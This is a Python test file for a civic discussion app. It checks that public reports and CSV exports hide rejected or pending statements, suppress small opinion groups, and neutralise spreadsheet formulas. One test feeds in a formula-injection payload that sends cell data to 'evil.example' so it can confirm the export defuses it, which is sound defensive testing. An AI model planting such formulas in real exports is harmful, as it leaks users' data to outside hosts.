"""The public report of a conversation and its CSV: the same statements, never hidden ones."""

from __future__ import annotations

import csv
import io
import re

import httpx
import pytest

from groundswell.actions.conversation_report import SMALL_GROUP, report
from groundswell.actions.conversations import do_moderate, do_open_conversation, do_submit_statement
from groundswell.actions.votes import Ballot, do_vote, do_votes
from groundswell.app import App
from groundswell.web import create_app

pytestmark = pytest.mark.anyio
SEEDS = ["Buses should be free", "Walking is for everyone", "Parks need lights"]
REJECTED = "Personal training, ring 07700 900123"
PENDING_PRIVATE = "Call Sam on 07700 900456 about the walks"


@pytest.fixture
def anyio_backend() -> str:
    return "asyncio"


async def _get(gs: App, path: str) -> httpx.Response:
    transport = httpx.ASGITransport(app=create_app(gs), raise_app_exceptions=False)
    async with httpx.AsyncClient(transport=transport, base_url="https://testserver") as c:
        return await c.get(path)  # no one signed in: anyone can fetch these


def _opened(gs: App, moderation: str, pending: str) -> str:
    """A conversation with votes, one pending statement and one rejected with a phone number."""
    slug = do_open_conversation(
        gs, topic=f"Getting about {moderation}", question="How?", moderation=moderation,
        seeds=SEEDS,
    ).slug  # fmt: skip
    do_submit_statement(gs, slug, "author-1", pending)
    rejected = do_submit_statement(gs, slug, "author-2", REJECTED)
    do_moderate(gs, slug, rejected.tid, "reject")
    for n, key in enumerate(("v1", "v2", "v3", "v4", "v5")):
        for tid in range(len(SEEDS)):
            do_vote(gs, slug, key, tid, ("agree", "disagree", "pass")[(n + tid) % 3])
    return slug


@pytest.mark.parametrize(
    ("moderation", "pending", "shown"),
    [
        ("pre", PENDING_PRIVATE, SEEDS),  # pending waits for a moderator: hidden
        ("post", "Benches along the canal", [*SEEDS, "Benches along the canal"]),  # shown at once
    ],
)
async def test_finding_2_report_csv_lists_only_the_statements_the_report_page_shows(
    db_app: App, moderation: str, pending: str, shown: list[str]
):
    slug = _opened(db_app, moderation, pending)
    download = await _get(db_app, f"/conversations/{slug}/report.csv")
    page = await _get(db_app, f"/conversations/{slug}/report")
    assert download.status_code == 200 and page.status_code == 200
    rows = list(csv.DictReader(io.StringIO(download.text)))
    assert sorted(r["text"] for r in rows) == sorted(shown)
    assert {r["status"] for r in rows} <= {"accepted", "pending"}
    for private in (REJECTED, PENDING_PRIVATE, "07700"):
        assert private not in download.text and private not in page.text
    # The page counts the statements it reports on; the CSV has one row for each,
    # and any statement the page quotes is one of them.
    counted = re.search(r"votes on (\d+) statements", page.text)
    assert counted and int(counted.group(1)) == len(rows)
    quoted = {t for t in [*SEEDS, pending, REJECTED] if t in page.text}
    assert quoted <= {r["text"] for r in rows}


async def test_finding_8_report_csv_neutralises_formula_statements(app: App):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    slug = do_open_conversation(
        app, topic="Formulas", question="?", seeds=[formula, "-5 minutes walk", "@everyone"]
    ).slug
    do_vote(app, slug, "v1", 0, "agree")
    download = await _get(app, f"/conversations/{slug}/report.csv")
    texts = [r["text"] for r in csv.DictReader(io.StringIO(download.text))]
    assert texts == ["'" + formula, "'-5 minutes walk", "'@everyone"]
    counts = [r["agree"] for r in csv.DictReader(io.StringIO(download.text))]
    assert counts == ["1", "0", "0"]  # numbers stay numbers


def small_group_conversation(gs: App, majority: int = 22, minority: int = 3) -> str:
    """``majority`` people agree with every statement; ``minority`` disagree with half.

    The analysis puts the few in an opinion group of their own, under MIN_CELL.
    """
    statements = [f"Statement number {i}" for i in range(8)]
    slug = do_open_conversation(
        gs, topic="A few apart", question="What would help?", seeds=statements
    ).slug
    do_votes(gs, [
        Ballot(slug, f"p{p}", t, 1 if p < majority or t % 2 else -1)
        for p in range(majority + minority) for t in range(len(statements))
    ])  # fmt: skip
    return slug


async def test_finding_2_opinion_groups_under_ten_are_not_shown_apart(db_app: App):
    slug = small_group_conversation(db_app)
    r = report(db_app, slug)
    # 3 people in a small group: their count is under 10, so it is not shown
    assert [g["size"] for g in r.groups] == [22] and r.in_small_groups is None
    assert r.divisive == []  # division needs two groups shown
    assert {p[2] for p in r.points} == {0, SMALL_GROUP}
    assert all("group_B_agree_pct" not in s for s in r.statements)
    assert r.to_dict()["people_in_small_groups"] is None

    page = await _get(db_app, f"/conversations/{slug}/report")
    text = " ".join(page.text.split())
    assert "Group A: 22 people" in text and "Group B" not in text
    assert "Fewer than 10 people in groups too small to show" in text
    assert "25 participants cast 200 votes on 8 statements" in text
    download = await _get(db_app, f"/conversations/{slug}/report.csv")
    header = next(csv.reader(io.StringIO(download.text)))
    assert [c for c in header if c.startswith("group_")] == []  # see test_review_... below


async def test_finding_2_no_group_shown_when_every_group_is_small(app: App):
    slug = small_group_conversation(app, majority=6, minority=3)
    r = report(app, slug)
    assert r.groups == [] and r.in_small_groups is None  # 9: under 10, not shown
    page = await _get(app, f"/conversations/{slug}/report")
    text = " ".join(page.text.split())
    assert "No opinion group has 10 or more people yet" in text
    assert "Fewer than 10 people in groups too small to show" in text and "Group A" not in text
    assert "9 people" not in text


@pytest.mark.parametrize("moderation", ["pre", "post"])
async def test_finding_2_api_counts_the_statements_the_report_shows(db_app: App, moderation: str):
    slug = _opened(db_app, moderation, "Benches along the canal")
    do_submit_statement(db_app, slug, "author-3", "Call Sister Jones on 01524 583000")  # held
    api = (await _get(db_app, f"/api/v1/conversations/{slug}")).json()
    page = await _get(db_app, f"/conversations/{slug}/report")
    counted = re.search(r"votes on (\d+) statements", page.text)
    shown = len(SEEDS) + (moderation == "post")  # the pending one shows in post-moderation
    assert counted and int(counted.group(1)) == api["statements"] == shown


async def test_review_small_group_votes_are_not_found_by_subtraction(db_app: App):
    # 40 people in group A, 3 in a group of their own. Everyone's exact counts
    # less group A's (its seen counts, or its size when everyone voted on
    # everything, with its agree share) would be the 3 people's own votes.
    slug = small_group_conversation(db_app, majority=40, minority=3)
    r = report(db_app, slug)
    doc = r.to_dict()
    assert [g["size"] for g in r.groups] == [40]
    assert r.in_small_groups is None and doc["people_in_small_groups"] is None
    assert doc["people_in_small_groups_reason"] == "suppressed (<10)"
    (a,) = doc["groups"]
    assert a["reason"] == "suppressed (secondary)" and a["statements"] == []
    assert not any(k.startswith("group_") for s in doc["statements"] for k in s)
    assert doc["divisive"] == []
    assert sum(s["seen"] for s in doc["statements"]) == 43 * 8  # everyone's counts stay

    page = await _get(db_app, f"/conversations/{slug}/report")
    text = " ".join(page.text.split())
    assert "Group A: 40 people" in text and "How this group voted is not shown" in text
    assert "Fewer than 10 people in groups too small to show" in text
    assert "3 people" not in text
    assert not re.search(r"\d+% of group A", text)
    download = await _get(db_app, f"/conversations/{slug}/report.csv")
    rows = list(csv.DictReader(io.StringIO(download.text)))
    assert len(rows) == 8 and not any(k.startswith("group_") for k in rows[0])
    assert all(row["representative_of"] == "" for row in rows)


async def test_review_groups_are_shown_when_10_or_more_are_outside_them(db_app: App):
    # 12 people outside group A: their votes mix in no subtraction under 10.
    slug = small_group_conversation(db_app, majority=22, minority=12)
    r = report(db_app, slug)
    assert all(g["reason"] is None for g in r.groups)
    assert r.in_small_groups == 0 or r.in_small_groups >= 10
    assert all(f"group_{g['label']}_agree_pct" in s for g in r.groups for s in r.statements)
